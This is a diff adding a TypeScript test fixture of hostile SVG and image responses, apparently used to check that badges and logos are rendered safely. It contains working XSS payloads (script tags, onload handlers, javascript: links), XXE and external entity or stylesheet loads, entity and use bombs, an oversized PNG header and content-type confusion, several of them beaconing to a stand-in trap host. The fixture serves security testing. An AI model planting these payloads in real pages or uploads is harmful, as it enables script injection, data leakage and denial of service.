@@ -1,0 +1,105 @@
+import { gzipSync } from 'node:zlib';
+import { encodePng } from '../../directory/png.ts';
+import type { ProxyAnswer } from '../silence/recording-proxy.ts';
+import { TRAP } from './payloads.ts';
+
+/** A picture that must not be shown; what it says of itself, and how it is sent. */
+export interface HostilePicture {
+  readonly name: string;
+  readonly answer: ProxyAnswer;
+}
+
+const SIZE = 'width="100" height="20"';
+const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+const svg = (content: string, attributes = SIZE) => `<svg ${NS} ${attributes}>${content}</svg>`;
+const RUN = `window.ran=1;new Image().src='https://${TRAP}/ran'`;
+
+const SVGS: Readonly<Record<string, string>> = {
+  'a script': svg(`<script>${RUN}</script>`),
+  'a script in CDATA': svg(`<script><![CDATA[${RUN}]]></script>`),
+  'a script from outside': svg(`<script href="https://${TRAP}/s.js"/>`),
+  'a handler': svg('', `${SIZE} onload="${RUN}"`),
+  'a link that runs': svg(`<a href="javascript:${RUN}"><text>x</text></a>`),
+  'an image from outside': svg(`<image href="https://${TRAP}/i.png" width="10" height="10"/>`),
+  'an image by xlink': svg(`<image xlink:href="https://${TRAP}/i.png" width="10" height="10"/>`),
+  'an image inside': svg('<image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>'),
+  'a use from outside': svg(`<use href="https://${TRAP}/u.svg#x"/>`),
+  'a use bomb': svg(
+    `<defs><g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 20 }, (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#a20"/>`,
+  ),
+  'an entity bomb': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${`&a${i === 0 ? '' : i - 1};`.repeat(10)}">`).join('')}]>${svg('<text>&a8;</text>')}`,
+  'an entity from outside': `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://${TRAP}/x">]>${svg('<text>&x;</text>')}`,
+  'a doctype from outside': `<!DOCTYPE svg SYSTEM "https://${TRAP}/svg.dtd">${svg('')}`,
+  'a style sheet from outside': `<?xml-stylesheet href="https://${TRAP}/s.css"?>${svg('')}`,
+  'a style that imports': svg(`<style>@import url(https://${TRAP}/s.css);</style>`),
+  'a paint from outside': svg(`<rect width="9" height="9" fill="url(https://${TRAP}/p.svg#x)"/>`),
+  'a foreign object': svg(
+    `<foreignObject width="99" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://${TRAP}/f"/></foreignObject>`,
+  ),
+  'an animation of a link': svg(
+    '<a><set attributeName="href" to="javascript:window.ran=1"/><text>x</text></a>',
+  ),
+  'an endless animation': svg(
+    '<rect width="9" height="9"><animate attributeName="x" dur="1ms" repeatCount="indefinite" to="9"/></rect>',
+  ),
+  'a filter': svg(
+    '<filter id="f"><feGaussianBlur stdDeviation="9999"/></filter><rect filter="url(#f)" width="9" height="9"/>',
+  ),
+  'a filter image': svg(
+    `<filter id="f"><feImage href="https://${TRAP}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
+  ),
+  'huge dimensions': svg('<rect width="9" height="9"/>', 'width="1000000000" height="1000000000"'),
+  'deep nesting': svg(`${'<g>'.repeat(2_000)}${'</g>'.repeat(2_000)}`),
+  'very many elements': svg('<rect width="1" height="1"/>'.repeat(1_000)),
+  'an element that does not end': `<svg ${NS} ${SIZE}><g>`,
+};
+
+const typed = (body: string | Buffer, type: string, status = 200): ProxyAnswer => ({
+  status,
+  headers: { 'content-type': type, 'access-control-allow-origin': '*' },
+  body,
+});
+
+const OTHERS: readonly HostilePicture[] = [
+  { name: 'a page of HTML', answer: typed(`<!doctype html><script>${RUN}</script>`, 'text/html') },
+  {
+    name: 'HTML that says it is SVG',
+    answer: typed(`<!doctype html><script>${RUN}</script>`, 'image/svg+xml'),
+  },
+  { name: 'SVG that says it is HTML', answer: typed(svg('<rect width="9" height="9"/>'), 'text/html') },
+  { name: 'a script that says it is a picture', answer: typed(RUN, 'image/png') },
+  {
+    name: 'SVG in another encoding',
+    answer: typed(Buffer.from(svg(`<script>${RUN}</script>`), 'utf16le'), 'image/svg+xml; charset=utf-16le'),
+  },
+  { name: 'compressed SVG', answer: typed(gzipSync(svg('')), 'image/svg+xml') },
+  { name: 'five megabytes', answer: typed(Buffer.alloc(5_000_000, ' '), 'image/svg+xml') },
+  { name: 'a PNG of another size than it says', answer: typed(hugePng(), 'image/png') },
+  { name: 'nothing', answer: typed('', 'image/svg+xml') },
+  {
+    name: 'a refusal with a picture',
+    answer: typed(svg('<rect width="9" height="9"/>'), 'image/svg+xml', 404),
+  },
+  {
+    name: 'a redirect',
+    answer: {
+      status: 302,
+      headers: { location: `https://${TRAP}/redirect.svg`, 'access-control-allow-origin': '*' },
+      body: '',
+    },
+  },
+];
+
+/** A PNG whose header says 60,000 by 60,000 pixels: 14 GB when it is drawn. */
+function hugePng(): Buffer {
+  const png = Buffer.from(encodePng(1, 1, [[0, 0, 0, 255]], new Uint8Array(1)));
+  png.writeUInt32BE(60_000, 16);
+  png.writeUInt32BE(60_000, 20);
+  return png;
+}
+
+/** Each is sent as badge and as logo of a service of its own. */
+export const HOSTILE_PICTURES: readonly HostilePicture[] = [
+  ...Object.entries(SVGS).map(([name, body]) => ({ name, answer: typed(body, 'image/svg+xml') })),
+  ...OTHERS,
+];
